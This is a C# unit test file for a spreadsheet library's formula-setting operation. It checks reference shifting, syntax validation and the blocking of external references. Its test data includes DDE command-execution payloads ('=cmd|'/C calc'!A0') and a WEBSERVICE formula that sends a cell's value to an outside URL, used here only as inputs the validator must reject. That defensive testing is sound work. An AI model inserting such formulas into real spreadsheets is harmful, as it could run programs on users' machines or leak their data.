using Officina.Excel;

namespace Officina.Excel.Tests.Operations;

public sealed class SetFormulasTests
{
    [Fact]
    public void Apply_FillsLikeExcel_ShiftingRelativeReferencesOnly()
    {
        using var book = WorkbookSession.Create();

        book.Run("""{"op":"set_formulas","range":"Sheet1!C2:C4","formula":"=B2*$A$1"}""");
        using var reopened = book.Reopen();

        Assert.Equal("=B2*$A$1", reopened.Formula("C2"));
        Assert.Equal("=B3*$A$1", reopened.Formula("C3"));
        Assert.Equal("=B4*$A$1", reopened.Formula("C4"));
        Assert.True(reopened.Workbook.CalculationProperties!.FullCalculationOnLoad!.Value);
    }

    [Fact]
    public void Apply_WritesGrid_AndPrefixesNewerFunctions()
    {
        using var book = WorkbookSession.Create();

        book.Run("""{"op":"set_formulas","range":"Sheet1!A1:B1","formulas":[["=XLOOKUP(1,C1:C3,D1:D3)","=SUM(C1:C3)"]]}""");
        using var reopened = book.Reopen();

        Assert.Equal("=_xlfn.XLOOKUP(1,C1:C3,D1:D3)", reopened.Formula("A1"));
        Assert.Equal("=SUM(C1:C3)", reopened.Formula("B1"));
    }

    [Fact]
    public void Validate_ReturnsError_WhenBothOrNeitherFormulaFormsAreGiven()
    {
        using var book = WorkbookSession.Create();

        var errors = book.Fail("""{"op":"set_formulas","range":"Sheet1!A1"}""");

        Assert.Contains(errors, e => e.Rule == "one_of");
    }

    [Fact]
    public void Validate_ReturnsError_WhenParenthesesDoNotBalance()
    {
        using var book = WorkbookSession.Create();

        var errors = book.Fail("""{"op":"set_formulas","range":"Sheet1!A1","formula":"=SUM(B1:B3"}""");

        Assert.Contains(errors, e => e.Rule == "formula_syntax" && e.Message.Contains("=SUM(B1:B3"));
    }

    public static TheoryData<string> ExternalFormulas =>
    [
        "=cmd|'/C calc'!A0",
        "=DDE(\"cmd\",\"/C calc\",\"A0\")",
        "=[x.xlsx]Sheet1!A1",
        "=SUM([1]Sheet1!A1:A3)",
        @"='\\server\share\[x.xlsx]Sheet1'!A1",
        @"='C:\reports\[x.xlsx]Sheet1'!A1",
        "='https://example.com/files/[x.xlsx]Sheet1'!A1",
        "=x.xlsx!Rate*2",
        "=WEBSERVICE(\"https://example.com/?q=\"&A1)",
    ];

    [Theory]
    [MemberData(nameof(ExternalFormulas))]
    public void Validate_ReturnsExternalReference_WhenFormulaReachesOutsideTheWorkbook(string formula)
    {
        using var book = WorkbookSession.Create();

        var errors = book.Fail(System.Text.Json.JsonSerializer.Serialize(new { op = "set_formulas", range = "Sheet1!B1", formulas = new[] { new[] { formula } } }));
        using var reopened = book.Reopen();

        var error = Assert.Single(errors);
        Assert.Equal(("formulas[0][0]", "external_reference"), (error.Path, error.Rule));
        Assert.Contains($"Given: '{formula}'", error.Message, StringComparison.Ordinal);
        Assert.Null(reopened.Formula("Sheet1!B1"));
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://example.com\",\"site\")")]
    [InlineData("=\"a|b\"&A1")]
    [InlineData("=SUM(Table1[Amount])+Sheet1!A1")]
    [InlineData("='My Sheet'!A1*2")]
    [InlineData("=SUM('Jan 2026:Mar 2026'!A1)")]
    [InlineData("=TEXT(A1,\"hh:mm\")&Sheet1!A2")]
    public void Apply_WritesFormula_WhenNothingReachesOutsideTheWorkbook(string formula)
    {
        using var book = WorkbookSession.Create();
        book.Run("""{"op":"add_sheet","name":"My Sheet"}""");

        book.Run(System.Text.Json.JsonSerializer.Serialize(new { op = "set_formulas", range = "Sheet1!B1", formula }));
        using var reopened = book.Reopen();

        Assert.Equal(formula, reopened.Formula("Sheet1!B1"));
    }

    [Fact]
    public void Apply_WritesTheLink_WhenAllowExternalReferencesIsTrue()
    {
        using var book = WorkbookSession.Create();

        book.Run("""{"op":"set_formulas","range":"Sheet1!B1","formula":"=WEBSERVICE(\"https://example.com/rate\")","allow_external_references":true}""");
        using var reopened = book.Reopen();

        Assert.Equal("=_xlfn.WEBSERVICE(\"https://example.com/rate\")", reopened.Formula("Sheet1!B1"));
    }
}
